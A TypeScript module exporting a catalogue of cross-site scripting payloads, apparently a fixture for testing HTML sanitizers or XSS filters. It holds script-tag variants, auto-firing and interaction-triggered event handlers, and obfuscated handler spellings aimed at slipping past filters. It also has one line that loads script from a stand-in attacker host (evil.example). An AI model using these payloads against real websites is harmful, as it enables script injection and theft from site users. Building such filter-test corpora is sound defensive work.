/* Script elements and event handlers. */

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script type=module>alert(1)</script>',
  '<script type="text/vbscript">alert(1)</script>',
  '<script>/*<p>*/alert(1)/*</p>*/</script>',
  '<script><!--\nalert(1)//--></script>',
  '<script>alert(1)',
  '<script>alert(1)<',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p><script>alert(1)</p></script>',
  '"><script>alert(1)</script>',
  '\'-->"></style></script></title></textarea><script>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>',
  '<math><script>alert(1)</script></math>',
  '<object><script>alert(1)</script></object>',
  '<xml><script>alert(1)</script></xml>',
  '<script>import("data:text/javascript,alert(1)")</script>',
  '<script nonce>alert(1)</script>',
  '</script><script>alert(1)</script>',
];

/** Fire without interaction. */
const firing = [
  ['<img src=x', 'onerror', '>'],
  ['<img src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="', 'onload', '>'],
  ['<image src=x', 'onerror', '>'],
  ['<svg', 'onload', '>'],
  ['<svg><g', 'onload', '></g></svg>'],
  ['<svg><animate attributeName=x dur=1s', 'onbegin', '></animate></svg>'],
  ['<svg><set attributeName=x', 'onbegin', '></set></svg>'],
  ['<svg><image href=x', 'onerror', '></image></svg>'],
  ['<body', 'onload', '>'],
  ['<body', 'onpageshow', '>'],
  ['<body', 'onfocus', '>'],
  ['<iframe src=about:blank', 'onload', '></iframe>'],
  ['<frameset', 'onload', '></frameset>'],
  ['<object data=x', 'onerror', '></object>'],
  ['<embed src=x', 'onload', '>'],
  ['<video src=x', 'onerror', '></video>'],
  ['<video><source src=x', 'onerror', '></video>'],
  ['<video poster=x', 'onloadstart', '><source src=x></video>'],
  ['<audio src=x', 'onerror', '></audio>'],
  ['<input autofocus', 'onfocus', '>'],
  ['<select autofocus', 'onfocus', '></select>'],
  ['<textarea autofocus', 'onfocus', '></textarea>'],
  ['<button autofocus', 'onfocus', '>x</button>'],
  ['<a autofocus tabindex=1 href=#', 'onfocus', '>x</a>'],
  ['<p autofocus tabindex=1', 'onfocus', '>x</p>'],
  ['<details open', 'ontoggle', '>x</details>'],
  ['<marquee', 'onstart', '>x</marquee>'],
  ['<link rel=stylesheet href=x', 'onerror', '>'],
  ['<style', 'onload', '></style>'],
  ['<script src=x', 'onerror', '></script>'],
  ['<b style="animation-name:x"', 'onanimationstart', '>x</b><style>@keyframes x{}</style>'],
  ['<p style="transition:color 1ms" tabindex=1', 'ontransitionend', '>x</p>'],
  ['<p popover id=x', 'onbeforetoggle', '>x</p><button popovertarget=x>x</button>'],
  ['<ul', 'onscrollend', '><li>x</ul>'],
  ['<li contenteditable', 'onbeforeinput', '>x'],
] as const;

/** Fire on interaction. */
const touched = [
  'onclick',
  'onmouseover',
  'onpointerenter',
  'onkeydown',
  'onfocusin',
  'oncopy',
  'onwheel',
].map((handler) => ['<p tabindex=1', handler, '>x</p>'] as const);

const spelled = (
  [opening, handler, rest]: readonly [string, string, string],
  spell: (handler: string, code: string) => string,
) => `${opening}${spell(handler, 'alert(1)')}${rest}`;

const plain = [...firing, ...touched].map((element) => spelled(element, (name, code) => ` ${name}=${code}`));

/** Spellings that filters may miss. */
const spellings: readonly ((handler: string, code: string) => string)[] = [
  (name, code) => `/${name}=${code}`,
  (name, code) => `\n${name.toUpperCase()}\t=\n"${code}"`,
  (name, code) => `\f${name}='${code}'`,
  (name, code) => ` ${name}=\`${code}\``,
  (name) => ` ${name}=&#97;&#108;ert&lpar;1)`,
  (name) => ` ${name}="&#x0000061lert&#x28;1&#x29"`,
  (name) => ` ${name}=\\u0061lert(1)`,
  (name, code) => ` x="${'>'}" ${name}="${code}"`,
  (name, code) => ` x='<p title="' ${name}="${code}"`,
  (name, code) => ` ""${name}="${code}"`,
  (name, code) => ` =${name}=x ${name}=${code}`,
  (name, code) => `\u0000 ${name}=${code}`,
  (name, code) => ` xmlns="http://www.w3.org/2000/svg" ${name}=${code}`,
];
const odd = spellings.map((spell) => spelled(['<img src=x', 'onerror', '>'], spell));

export const handlerPayloads: readonly string[] = [...scripts, ...plain, ...odd];
